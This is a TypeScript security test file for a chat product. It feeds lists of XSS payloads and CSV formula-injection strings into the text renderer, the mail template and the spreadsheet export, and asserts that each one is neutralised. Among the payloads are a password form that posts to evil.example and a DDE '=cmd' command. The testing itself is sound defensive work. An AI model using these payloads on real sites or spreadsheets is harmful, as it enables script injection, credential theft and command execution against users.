import { renderText } from '@parley/chat/text';
import { csvLine } from '../server/src/csv.ts';
import { ourLook, renderMail } from '../server/src/platform/mail/mail-template.ts';
import { createCount } from './chapter.ts';
import { tryPapers } from './papers.ts';
import type { Row } from './report.ts';

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><b onmouseover=alert(1)>x</b>',
  "'><iframe srcdoc='<script>alert(1)</script>'></iframe>",
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example" onclick="alert(1))',
  '![x](javascript:alert(1))',
  '<details open ontoggle=alert(1)>',
  '<math><mtext></table><mglyph><style><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is a template
  '${alert(1)}',
  '<style>@import "https://evil.example"</style>',
  '<form action=https://evil.example><input name=password>',
  '<base href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
];
const formulas = [
  '=1+1',
  '+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  ' =1',
  '＝1+1',
  '=HYPERLINK("https://evil.example")',
  '|calc',
  "=cmd|' /C calc'!A0",
];

/** The parts of a mail that take what people wrote. */
const mailPlaces = [
  'text',
  'label',
  'heading',
  'quote',
  'title',
  'small',
  'footer',
  'name',
  'replyLine',
] as const;

export async function tryMarkup(_: unknown): Promise<Row[]> {
  return [tryTexts(), tryMails(), trySpreadsheets(), await tryPapers(attacks)];
}

/** Only the nodes of the tree can come of a text, and links lead to the web. */
function tryTexts() {
  const count = createCount(
    'Answers and messages in widget and inbox: only text, lists, code and links to the web',
    `${attacks.length} attacks, alone, in a list, in bold, in a link and in code`,
  );
  for (const attack of attacks)
    for (const text of [
      attack,
      `- ${attack}`,
      `**${attack}**`,
      `[${attack}](https://a.example)`,
      `\`${attack}\``,
    ]) {
      const links = renderText(text)
        .flatMap((block) => ('items' in block ? block.items.flat() : 'inlines' in block ? block.inlines : []))
        .flatMap((inline) => (inline.kind === 'link' ? [inline.href] : []));
      count.check(
        links.every((href) => /^https?:\/\//i.test(href)),
        `${text}: ${links.join(' ')}`,
      );
    }
  return count.row();
}

function tryMails() {
  const count = createCount(
    'Mails: no tag and no address of an attack becomes one of the mail',
    `${attacks.length} attacks in each of ${mailPlaces.length} parts of a mail`,
  );
  const empty = tagsOf(mailWith(''));
  for (const attack of attacks)
    for (const place of mailPlaces) {
      const html = mailWith(attack, place);
      count.check(
        tagsOf(html) === empty && !/href="(?!https:\/\/a\.example)/i.test(html),
        `${attack} as ${place}`,
      );
    }
  return count.row();
}

function mailWith(attack: string, place?: (typeof mailPlaces)[number]) {
  const at = (name: (typeof mailPlaces)[number]) => (place === name ? attack : 'plain');
  return renderMail({
    look: { ...ourLook, name: at('name') },
    blocks: [
      at('text'),
      { label: at('label'), link: 'https://a.example' },
      { heading: at('heading'), text: at('text') },
      { quote: at('quote'), title: at('title') },
      { small: at('small') },
    ],
    footer: [at('footer')],
    replyLine: at('replyLine'),
  }).html;
}

/** The names of the tags, in their order: text never adds one. */
const tagsOf = (html: string) => (html.match(/<\/?[a-z][\w-]*/gi) ?? []).join(' ');

function trySpreadsheets() {
  const count = createCount('Tables for spreadsheets: no cell is a formula, none breaks out of its quotes');
  for (const cell of [...formulas, ...attacks]) {
    const line = csvLine([cell, 'next']);
    const [, inner = ''] = /^"((?:[^"]|"")*)","next"\r\n$/.exec(line) ?? [];
    count.check(inner !== '' && !/^\s*[=+\-@|＝＋－＠]/u.test(inner), `${cell}: ${line}`);
  }
  return count.row();
}
